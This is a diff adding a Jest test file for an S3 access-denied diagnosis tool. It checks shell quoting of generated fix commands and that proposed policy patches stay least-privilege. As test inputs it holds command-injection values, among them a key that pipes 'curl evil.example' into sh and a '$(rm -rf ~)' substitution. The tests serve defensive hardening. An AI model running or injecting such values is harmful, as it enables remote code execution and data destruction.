@@ -1,0 +1,57 @@
+import { execFileSync } from 'node:child_process';
+import { readFileSync } from 'node:fs';
+import { diagnose, parseEvent, parseSnapshot, readEventDocument } from '../lambda';
+import { shellQuote } from '../lambda/fixes/shellQuote';
+import { BUCKET, policy, s3Record, snapshot } from './factories';
+import { OWN_SCENARIOS, SHARED_SCENARIOS } from './helpers/paths';
+import { loadScenarios } from './helpers/scenarios';
+
+describe('shellQuote', () => {
+  it.each(["it's", '$(rm -rf ~)', '`id`', 'a b', 'x;y', "'", '\n', 'über/ß', ''])('keeps %p one literal word for the shell', (value) => {
+    expect(execFileSync('sh', ['-c', `printf %s ${shellQuote(value)}`]).toString()).toBe(value);
+  });
+});
+
+describe('fixes', () => {
+  it('quote an attacker-controlled key inside the command', () => {
+    const key = "x'; curl evil.example | sh; echo '";
+    const requireSse = policy({
+      Sid: 'Sse',
+      Effect: 'Deny',
+      Principal: '*',
+      Action: 's3:PutObject',
+      Resource: '*',
+      Condition: { Null: { 's3:x-amz-server-side-encryption': 'true' } },
+    });
+    const requireAcl = policy({
+      Sid: 'Acl',
+      Effect: 'Deny',
+      Principal: '*',
+      Action: 's3:PutObject',
+      Resource: '*',
+      Condition: { StringNotEquals: { 's3:x-amz-acl': 'bucket-owner-full-control' } },
+    });
+    const request = parseEvent(s3Record({}, { key })).requests[0]!;
+    const fix = diagnose(request, snapshot({}, { policy: requireAcl })).fixes[0]!;
+    expect(fix.command).toBe(
+      `aws s3api put-object --bucket ${BUCKET} --key 'x'"'"'; curl evil.example | sh; echo '"'"'' --body <file> --acl bucket-owner-full-control`,
+    );
+    expect(diagnose(request, snapshot({}, { policy: requireSse })).fixes[0]?.owner).toBe('bucket-owner');
+  });
+
+  const scenarios = [...loadScenarios(SHARED_SCENARIOS), ...loadScenarios(OWN_SCENARIOS)].filter((s) => !s.expected.exitCode);
+  it.each(scenarios.map((s) => [s.name, s] as const))(
+    'never grant a wildcard action or more than the denied request: %s',
+    (_name, scenario) => {
+      const request = parseEvent(readEventDocument(readFileSync(scenario.event))).requests[0]!;
+      const diagnosis = diagnose(request, parseSnapshot(JSON.parse(readFileSync(scenario.snapshot, 'utf8'))));
+      for (const fix of diagnosis.fixes) {
+        for (const statement of fix.policyPatch?.Statement ?? []) {
+          expect(statement.Action).not.toContain('*');
+          expect(diagnosis.request.actions).toContain(statement.Action);
+          if (statement.Resource !== '*') expect(diagnosis.request.resources).toContain(statement.Resource);
+        }
+      }
+    },
+  );
+});
